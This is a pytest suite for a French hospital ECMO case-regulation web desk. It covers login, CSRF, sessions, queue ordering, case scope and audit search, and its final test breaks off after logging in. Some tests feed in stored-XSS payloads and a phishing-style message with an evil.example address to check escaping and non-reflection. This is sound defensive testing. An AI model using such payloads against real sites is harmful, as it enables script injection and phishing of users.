"""The French desk through the HTTP client: login, CSRF, firing, sessions, queue, case, audit."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import sqlalchemy as sa

from engine.cases import CaseView
from engine.runner import Runner
from engine.sweeper import sweep
from interfaces.desk import LOGIN_INFOS, LOGIN_MESSAGES
from notifications.channels import EmlChannel
from notifications.dispatcher import dispatch
from notifications.outbox import Outbox
from tests.conftest import CONFIRMS, PASSWORD, START, TOULOUSE, Ctx, Web, drive, path_to
from workflows import default_notices

IDF_HOSPITAL = "789900001"  # Île-de-France, zone de Paris: outside every Occitanie user's scope
TABLES_BUT_AUDIT = (
    "regul_session",
    "api_token",
    "notice_attempt",
    "notice",
    "notice_counter",
    "idempotency",
    "deadline",
    "audit_head",
)
ENGLISH_WORDS = re.compile(r"\b(the|is|you|your|wrong|may not|log in|someone|required)\b")


# -- helpers ---------------------------------------------------------------------------------


def hidden(page: str, name: str) -> str:
    """The value of the first hidden input ``name`` of a page."""
    found = re.search(rf'name="{name}" value="([^"]*)"', page)
    assert found, f"no input {name!r} in the page"
    return html.unescape(found.group(1))


def alert(page: str) -> str:
    """The text of the page's error message (``role="alert"``)."""
    found = re.search(r'role="alert">(.*?)</p>', page, re.S)
    assert found, "the page shows no error message"
    return html.unescape(found.group(1)).strip()


def offered(page: str) -> list[str]:
    """The triggers the case page offers a form for, in page order."""
    return re.findall(r'action="/cases/[^/"]+/fire/([^"]+)"', page)


def queue_rows(page: str) -> list[tuple[str, str]]:
    """(reference, row HTML) of each case in the queue, in page order."""
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in page else ""
    return re.findall(
        r'<tr class="[^"]*">\s*<th scope="row"><a href="/cases/([^"]+)">(.*?)</tr>', body, re.S
    )


def cookie(answer: Any, name: str) -> dict[str, str]:
    """The attributes of the ``Set-Cookie`` header that sets ``name`` (keys lower-cased)."""
    for header in answer.headers.get_list("set-cookie"):
        if header.startswith(f"{name}="):
            first, *rest = (part.strip() for part in header.split(";"))
            attributes = {"value": first.split("=", 1)[1]}
            for item in rest:
                key, _, value = item.partition("=")
                attributes[key.lower()] = value
            return attributes
    raise AssertionError(f"no Set-Cookie for {name}: {answer.headers.get_list('set-cookie')}")


def fire(
    web: Web,
    csrf: str | None,
    ref: str,
    trigger: str,
    *,
    version: int | str | None,
    reason: str | None = "décision prise au téléphone",
    **fields: str,
) -> Any:
    """Post the desk's trigger form as a browser without JavaScript would."""
    data: dict[str, str] = {f"field_{k}": v for k, v in fields.items()}
    for key, value in (("csrf", csrf), ("version", version), ("reason", reason)):
        if value is not None:
            data[key] = str(value)
    return web.client.post(f"/cases/{ref}/fire/{trigger}", data=data, follow_redirects=False)


def redirected_to_login(answer: Any) -> str:
    """Asserts a 303 to the login page; returns the French message its code stands for."""
    assert answer.status_code == 303, answer.text
    target = urlsplit(answer.headers["location"])
    assert target.path == "/login"
    query = parse_qs(target.query)
    if "message" in query:
        return LOGIN_MESSAGES[query["message"][0]]
    return LOGIN_INFOS[query["info"][0]] if "info" in query else ""


def new_audit(before: dict[str, Any], after: dict[str, Any]) -> list[dict[str, Any]]:
    """Asserts that only the audit log moved (and the case's chain head); returns new events."""
    for table in TABLES_BUT_AUDIT:
        assert after[table] == before[table], table

    def heads_aside(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in r.items() if k not in {"audit_seq", "audit_hash"}} for r in rows]

    assert heads_aside(after["regul_case"]) == heads_aside(before["regul_case"])
    old = before["audit_event"]
    assert after["audit_event"][: len(old)] == old
    return list(after["audit_event"][len(old) :])


def data_of(value: Any) -> dict[str, Any]:
    """An event's data, as raw SQL returns it (a JSON string on SQLite)."""
    return dict(json.loads(value) if isinstance(value, str) else value)


def security_events(ctx: Ctx, action: str) -> list[Any]:
    with ctx.db.read() as conn:
        return list(
            conn.execute(
                sa.text(
                    "SELECT * FROM audit_event WHERE case_id IS NULL AND action = :a ORDER BY id"
                ),
                {"a": action},
            )
        )


def page_of(web: Web, ref: str) -> str:
    answer = web.client.get(f"/cases/{ref}")
    assert answer.status_code == 200, answer.text
    return str(answer.text)


@contextmanager
def other_browser(web: Web) -> Iterator[Web]:
    """A second browser (its own cookie jar) on the same application and database."""
    from fastapi.testclient import TestClient

    with TestClient(
        web.client.app, base_url="https://testserver", raise_server_exceptions=False
    ) as client:
        yield Web(client, web.ctx, web.accounts)


def at(ctx: Ctx, hours: float) -> None:
    """Move the clock to ``hours`` after the tests' start (08:00 UTC)."""
    ctx.clock.set(START + timedelta(hours=hours))


def umac_case(ctx: Ctx, hospital: str = TOULOUSE, **fields: object) -> CaseView:
    """A case its hospital has confirmed: at the UMAC's level (umac-sud for Toulouse)."""
    case = ctx.open(hospital=hospital, **fields)
    return ctx.runner.advance(
        reference=case.reference,
        trigger="escalate",
        login=f"etab-{hospital}",
        reason="demande confirmée",
    )


# -- login -----------------------------------------------------------------------------------


def test_login_page_sets_a_pre_login_csrf_cookie_and_labels_its_fields(web: Web) -> None:
    """GET /login: a CSRF cookie echoed in the form, and a label for each field."""
    page = web.client.get("/login")
    assert page.status_code == 200
    assert page.headers["content-type"].startswith("text/html")
    token = cookie(page, "regul_login_csrf")
    assert token["value"]
    assert hidden(page.text, "csrf") == token["value"]
    assert {"httponly", "secure", "path"} <= set(token)
    assert token["samesite"].lower() == "strict"
    assert '<html lang="fr">' in page.text
    for field in ("login", "password"):
        assert f'<label for="{field}">' in page.text
        assert f'id="{field}"' in page.text
    assert 'type="password"' in page.text
    assert 'autocomplete="current-password"' in page.text


def test_good_password_opens_a_strict_session_cookie(web: Web) -> None:
    """Right password: 303 to the regulator's situation page, a session cookie HttpOnly,
    Secure, SameSite=Strict, Path=/."""
    web.accounts.set_password("umac-sud", PASSWORD)
    csrf = hidden(web.client.get("/login").text, "csrf")
    answer = web.client.post(
        "/login",
        data={"login": "umac-sud", "password": PASSWORD, "csrf": csrf},
        follow_redirects=False,
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == "/situation"  # a regulator lands on its situation
    session = cookie(answer, "regul_session")
    assert len(session["value"]) >= 40
    assert "httponly" in session
    assert "secure" in session
    assert session["samesite"].lower() == "strict"
    assert session["path"] == "/"
    assert cookie(answer, "regul_login_csrf")["max-age"] == "0"  # the pre-login token is spent
    with web.ctx.db.read() as conn:
        (row,) = conn.execute(sa.text("SELECT id, login FROM regul_session")).all()
    assert row.login == "umac-sud"
    assert session["value"] not in row.id
    home = web.client.get("/")
    assert home.status_code == 200
    assert "Médecin coordinateur UMAC" in home.text


def test_wrong_password_is_401_with_a_message_and_no_session(web: Web) -> None:
    """Wrong password or unknown login: 401 page saying so, no session, recorded as failed."""
    web.accounts.set_password("umac-sud", PASSWORD)
    csrf = hidden(web.client.get("/login").text, "csrf")
    pages = []
    for login, password in (("umac-sud", "not the password"), ("nobody", PASSWORD)):
        answer = web.client.post(
            "/login",
            data={"login": login, "password": password, "csrf": csrf},
            follow_redirects=False,
        )
        assert answer.status_code == 401
        assert "regul_session" not in answer.headers.get("set-cookie", "")
        assert alert(answer.text)
        pages.append(alert(answer.text))
    assert pages[0] == pages[1]  # the page does not tell which logins exist
    assert web.ctx.count("regul_session") == 0
    failed = security_events(web.ctx, "login_failed")
    assert [(e.actor, e.case_id) for e in failed] == [("umac-sud", None), ("nobody", None)]
    assert web.client.get("/", follow_redirects=False).status_code == 303
    # the re-rendered form carries the same pre-login token: the next attempt goes through
    retry = web.client.post(
        "/login",
        data={"login": "umac-sud", "password": PASSWORD, "csrf": hidden(answer.text, "csrf")},
        follow_redirects=False,
    )
    assert retry.status_code == 303
    assert web.ctx.count("regul_session") == 1


@pytest.mark.parametrize(
    ("form_token", "send_cookie"),
    [
        pytest.param(None, True, id="no-token-in-form"),
        pytest.param("forged-token", True, id="forged-token"),
        pytest.param("", True, id="empty-token"),
        pytest.param("use-page-token", False, id="no-cookie"),
    ],
)
def test_login_without_matching_csrf_is_403_and_opens_no_session(
    web: Web, form_token: str | None, send_cookie: bool
) -> None:
    """A login form without the pre-login token, or with another one: 403, no session row."""
    web.accounts.set_password("umac-sud", PASSWORD)
    page_token = hidden(web.client.get("/login").text, "csrf")
    if not send_cookie:
        web.client.cookies.clear()
    data = {"login": "umac-sud", "password": PASSWORD}
    if form_token is not None:
        data["csrf"] = page_token if form_token == "use-page-token" else form_token
    answer = web.client.post("/login", data=data, follow_redirects=False)
    assert answer.status_code == 403
    assert answer.headers["content-type"].startswith("text/html")
    assert "CSRF" in alert(answer.text)
    assert "regul_session" not in answer.headers.get("set-cookie", "")
    assert web.ctx.count("regul_session") == 0


@pytest.mark.parametrize(
    "text",
    [
        '<script>alert("x")</script>',
        "Votre compte est suspendu : appelez le 08 99 00 00 00 ou écrivez à support@evil.example",
        "inactivity ",
    ],
)
def test_login_page_shows_only_known_messages(web: Web, text: str) -> None:
    """/login?message=…&info=… shows the French text of a known code, never text from the URL."""
    page = web.client.get("/login", params={"message": text, "info": text})
    assert page.status_code == 200
    assert 'role="alert"' not in page.text
    assert 'role="status"' not in page.text
    for word in ("script", "08 99", "evil", "inactivity"):
        assert word not in page.text.split("<main", 1)[1]
    known = web.client.get("/login", params={"message": "inactivity", "info": "logged_out"})
    assert alert(known.text) == LOGIN_MESSAGES["inactivity"]
    assert "Vous êtes déconnecté." in known.text


def test_logged_out_visitor_is_sent_to_login(web: Web) -> None:
    """Without a session every desk page answers 303 to /login with a French message."""
    ref = web.ctx.open().reference
    for path in ("/", f"/cases/{ref}", "/audit", "/notices"):
        assert "connectez-vous" in redirected_to_login(web.client.get(path, follow_redirects=False))
    before = web.ctx.snapshot()
    assert redirected_to_login(fire(web, "x", ref, "escalate", version=1))
    assert web.ctx.snapshot() == before


# -- CSRF on the desk's forms ----------------------------------------------------------------


def test_every_post_form_carries_the_session_csrf_token(web: Web) -> None:
    """Queue, case, notices and new-case pages: each POST form holds the session's token."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    for path in ("/", f"/cases/{ref}", "/notices", "/new/ecmo"):
        answer = web.client.get(path)
        assert answer.status_code == 200, path
        page = answer.text
        forms = re.findall(r"<form[^>]*method=\"post\".*?</form>", page, re.S)
        assert forms, path
        for form in forms:
            assert f'<input type="hidden" name="csrf" value="{csrf}">' in form, (path, form)
    assert offered(page_of(web, ref)) == ["escalate", "cancel"]


@pytest.mark.parametrize(
    "token",
    [
        pytest.param(None, id="missing"),
        pytest.param("", id="empty"),
        pytest.param("forged-0123456789", id="forged"),
        pytest.param("other-session", id="other-sessions-token"),
    ],
)
def test_fire_without_the_session_csrf_is_403_and_changes_nothing(
    web: Web, token: str | None
) -> None:
    """A trigger form posted without this session's CSRF token: 403 page, nothing written."""
    ref = web.ctx.open().reference
    if token == "other-session":
        with other_browser(web) as other:
            token = other.login("etab-319900001")  # same user, another session's token
    web.login("etab-319900001")
    before = web.ctx.snapshot()
    answer = fire(web, token, ref, "escalate", version=1)
    assert answer.status_code == 403
    assert answer.headers["content-type"].startswith("text/html")
    assert "Action non permise" in answer.text
    assert "CSRF" in alert(answer.text)
    assert web.ctx.snapshot() == before


def test_logout_without_csrf_is_403_and_keeps_the_session(web: Web) -> None:
    """POST /logout without the token is refused: a third-party page cannot log you out."""
    web.login("ars-occ")
    before = web.ctx.snapshot()
    answer = web.client.post("/logout", data={}, follow_redirects=False)
    assert answer.status_code == 403
    assert web.ctx.snapshot() == before
    assert web.client.get("/").status_code == 200


# -- firing from the desk --------------------------------------------------------------------


def test_fire_moves_the_case_and_redirects_to_its_page(web: Web) -> None:
    """Good form: 303 to /cases/{ref}?done=<trigger>, the case advanced, the page says so."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    version = hidden(page_of(web, ref), "version")
    assert version == "1"
    answer = fire(web, csrf, ref, "escalate", version=version, reason="patient instable")
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/cases/{ref}?done=escalate"
    case = web.ctx.runner.show(ref)
    assert (case.state, case.version) == ("umac_review", 2)
    page = web.client.get(answer.headers["location"]).text
    assert 'role="status">Action enregistrée : Escalader au niveau supérieur.' in page
    assert "patient instable" in page
    last = web.ctx.runner.history(ref)[1][-2]  # before the read of the page just shown
    assert (last.action, last.actor, last.reason) == (
        "transition",
        "etab-319900001",
        "patient instable",
    )


def test_fire_with_trigger_fields_records_them(web: Web) -> None:
    """field_<name> inputs become the trigger's fields; empty optional ones are left out."""
    ref = umac_case(web.ctx).reference
    csrf = web.login("umac-sud")
    page = page_of(web, ref)
    assert offered(page) == ["escalate", "resolve", "reject"]
    assert '<label for="resolve-source">Origine (obligatoire)</label>' in page
    answer = fire(
        web,
        csrf,
        ref,
        "resolve",
        version=hidden(page, "version"),
        source="region",
        lender="319900002",
        return_by="2026-12-15",
    )
    assert answer.status_code == 303, answer.text
    case = web.ctx.runner.show(ref)
    assert case.state == "dispatched"
    assert case.fields["resolve"] == {
        "source": "region", "lender": "319900002", "return_by": "2026-12-15",
    }  # fmt: skip


def test_stale_version_is_412_rerenders_the_case_and_changes_nothing(web: Web) -> None:
    """A form posted on a version someone moved since: 412, the case again, nothing written."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    seen = hidden(page_of(web, ref), "version")
    web.ctx.runner.advance(
        reference=ref,
        trigger="escalate",
        login="etab-319900001",
        reason="au téléphone",
        expect_version=1,
    )
    before = web.ctx.snapshot()
    answer = fire(web, csrf, ref, "cancel", version=seen)
    assert answer.status_code == 412
    assert f"<h1>{ref} — Demande de console ECMO</h1>" in answer.text
    assert alert(answer.text)  # its wording: test_desk_messages_are_in_french
    assert hidden(answer.text, "version") == "2"  # the fresh page can be posted again
    added = new_audit(before, web.ctx.snapshot())
    assert [(e["action"], e["actor"]) for e in added] == [("read", "etab-319900001")]
    assert web.ctx.runner.show(ref).state == "umac_review"


@pytest.mark.parametrize(
    ("form", "says"),
    [
        pytest.param({"reason": None}, "", id="no-reason"),
        pytest.param({"reason": "   "}, "", id="blank-reason"),
        pytest.param({"version": None}, "version du dossier manquante", id="no-version"),
        pytest.param({"version": "deux"}, "version du dossier manquante", id="bad-version"),
        pytest.param({"colour": "red"}, "colour", id="unknown-field"),
    ],
)
def test_bad_form_is_422_and_changes_nothing(web: Web, form: dict[str, Any], says: str) -> None:
    """Missing reason or version, unknown field: 422 with the case and a message, no write."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    before = web.ctx.snapshot()
    arguments: dict[str, Any] = {"version": 1, **form}
    answer = fire(web, csrf, ref, "escalate", **arguments)
    assert answer.status_code == 422
    assert says in alert(answer.text)
    assert 'name="reason"' in answer.text  # the form is there to try again
    added = new_audit(before, web.ctx.snapshot())
    assert [e["action"] for e in added] == ["read"]
    assert web.ctx.runner.show(ref).version == 1


def test_role_that_may_not_is_403_and_the_refusal_is_recorded(web: Web) -> None:
    """The ARS escalating a case at the hospital's level: 403 page, a 'refused' event only."""
    ref = web.ctx.open().reference
    csrf = web.login("ars-occ")
    page = page_of(web, ref)
    assert offered(page) == []
    assert "Aucune action ne vous revient" in page
    before = web.ctx.snapshot()
    answer = fire(web, csrf, ref, "escalate", version=1, reason="je force")
    assert answer.status_code == 403
    assert alert(answer.text)
    added = new_audit(before, web.ctx.snapshot())
    assert [(e["action"], e["actor"]) for e in added] == [
        ("refused", "ars-occ"),
        ("read", "ars-occ"),
    ]
    assert data_of(added[0]["data"])["trigger"] == "escalate"
    assert added[0]["reason"] == "je force"
    assert web.ctx.runner.show(ref).version == 1


def test_trigger_not_possible_in_the_state_is_409(web: Web) -> None:
    """A trigger the state does not offer: 409 with the case re-rendered, nothing moved."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    before = web.ctx.snapshot()
    answer = fire(web, csrf, ref, "start", version=1)
    assert answer.status_code == 409
    assert alert(answer.text)
    assert [e["action"] for e in new_audit(before, web.ctx.snapshot())] == ["read"]


def test_fire_outside_scope_or_on_missing_case_is_the_same_404(web: Web) -> None:
    """An outsider firing on a case gets the 404 of a missing one; the attempt is recorded."""
    ref = web.ctx.open().reference
    csrf = web.login("ars-idf")
    hidden_case = fire(web, csrf, ref, "escalate", version=1)
    missing = fire(web, csrf, "ECMO-999999", "escalate", version=1)
    unknown_trigger = fire(web, csrf, ref, "teleport", version=1)
    assert hidden_case.status_code == missing.status_code == 404
    assert alert(hidden_case.text).replace(ref, "X") == alert(missing.text).replace(
        "ECMO-999999", "X"
    )
    assert hidden_case.text.replace(ref, "X") == missing.text.replace("ECMO-999999", "X")
    assert unknown_trigger.status_code == 404
    events = web.ctx.runner.history(ref)[1]
    assert [(e.action, e.actor) for e in events[1:]] == [("refused", "ars-idf")] * 2
    assert web.ctx.runner.show(ref).version == 1


def test_reason_with_markup_is_shown_as_text(web: Web) -> None:
    """A reason holding HTML is escaped on the case page (no stored XSS)."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    assert fire(web, csrf, ref, "escalate", version=1, reason=evil).status_code == 303
    page = page_of(web, ref)
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page


# -- sessions ----------------------------------------------------------------------------------


def test_idle_session_expires_after_30_minutes(web: Web) -> None:
    """Unused 31 min: GET / is a 303 to /login?message=…, and the cookie is cleared."""
    web.login("umac-sud")
    web.ctx.clock.advance(timedelta(minutes=29))
    assert web.client.get("/").status_code == 200  # still alive, and its use is noted
    web.ctx.clock.advance(timedelta(minutes=29))
    assert web.client.get("/").status_code == 200
    web.ctx.clock.advance(timedelta(minutes=31))
    answer = web.client.get("/", follow_redirects=False)
    message = redirected_to_login(answer)
    assert message
    assert cookie(answer, "regul_session")["max-age"] == "0"
    login_page = web.client.get(answer.headers["location"])
    assert login_page.status_code == 200
    assert alert(login_page.text) == message


def test_session_ends_after_12_hours_even_when_used(web: Web) -> None:
    """Used every 20 minutes, a session still ends 12 h after login."""
    web.login("ccs")
    for _ in range(35):  # 11 h 40 min
        web.ctx.clock.advance(timedelta(minutes=20))
        assert web.client.get("/", follow_redirects=False).status_code == 200
    web.ctx.clock.advance(timedelta(minutes=20))  # 12 h after login
    message = redirected_to_login(web.client.get("/", follow_redirects=False))
    assert message


def test_logout_ends_the_session_and_the_old_cookie_no_longer_works(web: Web) -> None:
    """POST /logout with the token: 303 to login; replaying the old cookie gets nothing."""
    ref = web.ctx.open().reference
    csrf = web.login("etab-319900001")
    secret = web.client.cookies.get("regul_session")
    answer = web.client.post("/logout", data={"csrf": csrf}, follow_redirects=False)
    assert "déconnecté" in redirected_to_login(answer)
    assert cookie(answer, "regul_session")["max-age"] == "0"
    assert web.ctx.count("regul_session", "ended_at IS NOT NULL") == 1
    web.client.cookies.clear()
    replay = {"Cookie": f"regul_session={secret}"}
    assert redirected_to_login(web.client.get("/", headers=replay, follow_redirects=False))
    before = web.ctx.snapshot()
    posted = web.client.post(
        f"/cases/{ref}/fire/escalate",
        data={"csrf": csrf, "version": "1", "reason": "rejoué"},
        headers=replay,
        follow_redirects=False,
    )
    assert redirected_to_login(posted)
    assert web.ctx.snapshot() == before


def test_disabling_a_user_ends_their_session_at_once(web: Web) -> None:
    """An administrator disables the user: the very next request is sent to login."""
    ref = umac_case(web.ctx).reference
    csrf = web.login("umac-sud")
    assert web.client.get("/").status_code == 200
    assert web.accounts.disable("umac-sud") == 1
    assert redirected_to_login(web.client.get("/", follow_redirects=False))
    before = web.ctx.snapshot()
    assert redirected_to_login(fire(web, csrf, ref, "escalate", version=2))
    assert web.ctx.snapshot() == before
    assert web.ctx.runner.show(ref).state == "umac_review"
    csrf = hidden(web.client.get("/login").text, "csrf")
    again = web.client.post(
        "/login",
        data={"login": "umac-sud", "password": PASSWORD, "csrf": csrf},
        follow_redirects=False,
    )
    assert again.status_code == 401  # the right password no longer opens a session
    assert [e.actor for e in security_events(web.ctx, "login_failed")] == ["umac-sud"]


# -- the queue ---------------------------------------------------------------------------------


def build_morning(ctx: Ctx) -> dict[str, str]:
    """Cases in several states around Toulouse (and one in Paris); the clock ends at 14:30 UTC."""
    incident = drive(ctx, ctx.open(), path_to(ctx.registry["ecmo"], "national_regulation"))
    at(ctx, 3 + 50 / 60)  # 11:50
    other_late = ctx.open()  # requested, due 12:50
    at(ctx, 4 + 1 / 60)  # 12:01: the national level let its 4 h pass
    sweep(ctx.runner)
    mine_late = umac_case(ctx)  # umac_review, due 14:01
    at(ctx, 5)  # 13:00
    mine = umac_case(ctx)  # umac_review, due 15:00
    at(ctx, 6)  # 14:00
    other = ctx.open()  # requested, due 15:00
    closed = drive(ctx, ctx.open(), ["cancel"])
    paris = umac_case(ctx, IDF_HOSPITAL)
    at(ctx, 6.5)  # 14:30
    return {
        "incident": incident.reference,
        "other_late": other_late.reference,
        "mine_late": mine_late.reference,
        "mine": mine.reference,
        "other": other.reference,
        "closed": closed.reference,
        "paris": paris.reference,
    }


def test_queue_orders_mine_then_incidents_then_nearest_deadline(web: Web) -> None:
    """umac-sud: its level first, then the incident, then the rest by deadline; flags shown."""
    refs = build_morning(web.ctx)
    web.login("umac-sud")
    page = web.client.get("/").text
    rows = dict(queue_rows(page))
    order = [ref for ref, _ in queue_rows(page)]
    assert order == [
        refs["mine_late"],
        refs["mine"],
        refs["incident"],
        refs["other_late"],
        refs["other"],
    ]
    assert "En retard" in rows[refs["mine_late"]]
    assert "en retard de 29 min" in rows[refs["mine_late"]]
    assert "30 min" in rows[refs["mine"]]
    assert "En retard" not in rows[refs["mine"]]
    assert "Incident" in rows[refs["incident"]]
    assert "En retard" in rows[refs["other_late"]]
    assert "Incident" not in rows[refs["other"]]
    assert "En retard" not in rows[refs["other"]]
    assert "16:00" in rows[refs["other"]]  # due 15:00 UTC is 16:00 in Paris in November
    everything = [r for r, _ in queue_rows(web.client.get("/?everything=true").text)]
    assert refs["closed"] in everything
    assert refs["closed"] not in order


def test_queue_of_the_regional_ars_puts_its_level_first(web: Web) -> None:
    """ars-occ sees the whole region; with nothing at its level, the incident comes first."""
    refs = build_morning(web.ctx)
    web.login("ars-occ")
    order = [ref for ref, _ in queue_rows(web.client.get("/").text)]
    assert order == [
        refs["incident"],
        refs["other_late"],
        refs["mine_late"],
        refs["other"],  # due at 15:00 like 'mine': the newer case first
        refs["mine"],
    ]
    assert refs["paris"] not in order


@pytest.mark.parametrize("outsider", ["ars-idf", "umac-paris"])
def test_queue_hides_cases_outside_the_callers_scope(web: Web, outsider: str) -> None:
    """Paris users see the Paris case and none of Occitanie's."""
    refs = build_morning(web.ctx)
    web.login(outsider)
    order = [ref for ref, _ in queue_rows(web.client.get("/?everything=true").text)]
    assert order == [refs["paris"]]


def test_queue_says_when_nothing_is_in_scope(web: Web) -> None:
    """An empty scope: a sentence instead of an empty table."""
    web.ctx.open()
    web.login("ars-idf")
    page = web.client.get("/").text
    assert "Aucun dossier dans votre périmètre." in page
    assert "<tbody>" not in page


def test_queue_keeps_the_most_urgent_case_beyond_500(web: Web) -> None:
    """With 501 open cases in scope, the one at the caller's level still leads the queue."""
    urgent = umac_case(web.ctx).reference
    for _ in range(500):
        web.ctx.open()
    web.login("umac-sud")
    order = [ref for ref, _ in queue_rows(web.client.get("/").text)]
    assert order[0] == urgent


# -- the case page -----------------------------------------------------------------------------


def test_case_page_shows_facts_ladder_timeline_and_forms(web: Web) -> None:
    """Facts, the ladder with aria-current on the current step, the timeline, labelled forms."""
    ref = umac_case(web.ctx, summary="SDRA sévère").reference
    web.login("umac-sud")
    page = page_of(web, ref)
    for fact in ("Examen par l&#39;UMAC", "UMAC", "319900001", "PAT-0001", "SDRA sévère"):
        assert fact in page, fact
    current = re.findall(r'<li class="(\w+)" aria-current="step">\s*<span>([^<]+)</span>', page)
    assert current == [("current", "Examen par l&#39;UMAC")]
    assert page.count('aria-current="step"') == 1
    assert '<li class="passed">\n      <span>Demande émise</span>' in page
    assert "Diagramme du circuit" in page
    assert offered(page) == ["escalate", "resolve", "reject"]
    for trigger in offered(page):
        assert f'<label for="{trigger}-reason">' in page
        assert f'<textarea id="{trigger}-reason" name="reason"' in page
    timeline = page.split('id="chrono"', 1)[1]
    for shown in ("Ouverture", "Transition", "Consultation", "etab-319900001", "umac-sud"):
        assert shown in timeline, shown
    assert "Aucun message pour ce dossier." in page


def test_viewing_a_case_records_a_read_event(web: Web) -> None:
    """Each view is a 'read' event of the case's chain: {"read": "history", "via": "desk"}."""
    ref = web.ctx.open().reference
    web.login("ars-occ")
    page_of(web, ref)
    page = page_of(web, ref)
    events = web.ctx.runner.history(ref)[1]
    reads = [e for e in events if e.action == "read"]
    assert [(e.actor, e.org, e.data) for e in reads] == [
        ("ars-occ", "ARS-OCC", {"read": "history", "via": "desk"})
    ] * 2
    # this view is in its own timeline, folded with the first: one line for both reads
    assert page.count('<tr class="ev-read') == 1
    assert "consulté 2 fois, du " in page


def test_case_outside_scope_is_the_404_of_a_missing_case(web: Web) -> None:
    """An outsider's view: the same 404 page as a missing reference, and the attempt logged."""
    ref = web.ctx.open().reference
    web.login("ars-idf")
    hidden_case = web.client.get(f"/cases/{ref}")
    missing = web.client.get("/cases/ECMO-999999")
    assert hidden_case.status_code == missing.status_code == 404
    assert hidden_case.headers["content-type"].startswith("text/html")
    assert hidden_case.text.replace(ref, "X") == missing.text.replace("ECMO-999999", "X")
    assert "Introuvable" in hidden_case.text
    last = web.ctx.runner.history(ref)[1][-1]
    assert (last.action, last.actor, last.data["op"], last.data["via"]) == (
        "refused",
        "ars-idf",
        "read",
        "desk",
    )
    malformed = web.client.get("/cases/NOT-A-REF")
    assert malformed.status_code == 422, alert(malformed.text)
    assert "Traceback" not in malformed.text


# -- the auditor's page ------------------------------------------------------------------------


def audit_rows(page: str) -> list[tuple[str, str, str]]:
    """(case reference or 'sécurité', action label, actor) of each event the audit page
    lists."""
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    cells = re.findall(
        r"<tr(?: class=\"refused\")?><td>\d+</td><td>([^<]*)</td><td>[^<]*</td><td>([^<]*)</td>"
        r"<td>([^<]*)</td>",
        body,
    )
    return [(case, html.unescape(action), actor) for case, action, actor in cells]


def test_auditor_searches_by_case_user_org_and_period(web: Web) -> None:
    """Filters by case, user, organisation and period (Paris time) narrow the events."""
    first = web.ctx.open().reference  # 08:00 UTC, 09:00 Paris
    at(web.ctx, 2)  # 10:00 UTC, 11:00 Paris
    second = umac_case(web.ctx).reference
    drive(web.ctx, web.ctx.runner.show(second), ["escalate"])  # by umac-sud
    web.login("auditeur")
    page = web.client.get("/audit").text
    assert 'role="alert"' not in page
    assert "4 événement(s)" in page
    assert audit_rows(page) == [
        ("ECMO-000001", "Ouverture", "etab-319900001"),
        ("ECMO-000002", "Ouverture", "etab-319900001"),
        ("ECMO-000002", "Transition", "etab-319900001"),
        ("ECMO-000002", "Transition", "umac-sud"),
    ]

    def search(**params: str) -> list[tuple[str, str, str]]:
        """The rows found, less the auditor's own reads (naming a case reads it)."""
        answer = web.client.get("/audit", params=params)
        assert answer.status_code == 200, answer.text
        return [r for r in audit_rows(answer.text) if r[1:] != ("Consultation", "auditeur")]

    assert search(case=first) == [("ECMO-000001", "Ouverture", "etab-319900001")]
    assert ("ECMO-000001", "Consultation", "auditeur") in audit_rows(web.client.get("/audit").text)
    assert [r[0] for r in search(case=second)] == ["ECMO-000002"] * 3
    assert len(search(user="etab-319900001")) == 3
    assert search(org="UMAC-SUD") == [("ECMO-000002", "Transition", "umac-sud")]
    assert search(case=second, user="umac-sud") == [("ECMO-000002", "Transition", "umac-sud")]
    assert [r[0] for r in search(since="2026-11-22T10:30")] == ["ECMO-000002"] * 3
    assert search(until="2026-11-22T10:30") == [("ECMO-000001", "Ouverture", "etab-319900001")]
    assert search(since="2026-11-22T12:00") == []
    assert 'value="UMAC-SUD"' in web.client.get("/audit", params={"org": "UMAC-SUD"}).text


def test_regional_auditor_sees_only_its_region(web: Web) -> None:
    """auditeur-occ: events of Occitanie cases only, no security stream, no Paris case."""
    toulouse = web.ctx.open().reference
    umac_case(web.ctx, IDF_HOSPITAL)
    csrf = hidden(web.client.get("/login").text, "csrf")
    web.client.post("/login", data={"login": "ars-idf", "password": "x" * 12, "csrf": csrf})
    web.login("auditeur-occ")
    assert audit_rows(web.client.get("/audit").text) == [
        ("ECMO-000001", "Ouverture", "etab-319900001")
    ]
    assert (
        "Chaîne intègre"
        in web.client.get("/audit", params={"verify": "true", "case": toulouse}).text
    )
    assert audit_rows(web.client.get("/audit", params={"user": "etab-789900001"}).text) == []
    export = web.client.get("/audit/export").text
    assert {r["case_id"] for r in csv.DictReader(io.StringIO(export))} == {"1"}


def test_regional_auditor_cannot_tell_an_out_of_region_case_from_a_missing_one(
    web: Web,
) -> None:
    """auditeur-occ searching a Paris case gets exactly the answer for a missing reference."""
    paris = umac_case(web.ctx, IDF_HOSPITAL).reference
    web.login("auditeur-occ")
    hidden_case = web.client.get("/audit", params={"case": paris})
    missing = web.client.get("/audit", params={"case": "ECMO-999999"})
    assert hidden_case.status_code == missing.status_code
    assert alert(hidden_case.text).replace(paris, "X") == alert(missing.text).replace(
        "ECMO-999999", "X"
    )


def test_auditor_verifies_the_chain(web: Web) -> None:
    """'Vérifier la chaîne' reports an intact chain with its counts."""
    ref = drive(web.ctx, web.ctx.open(), ["escalate", "escalate"]).reference
    csrf = hidden(web.client.get("/login").text, "csrf")
    web.client.post("/login", data={"login": "auditeur", "password": "x" * 12, "csrf": csrf})
    assert len(security_events(web.ctx, "login_failed")) == 1  # the security stream has a link
    web.login("auditeur")
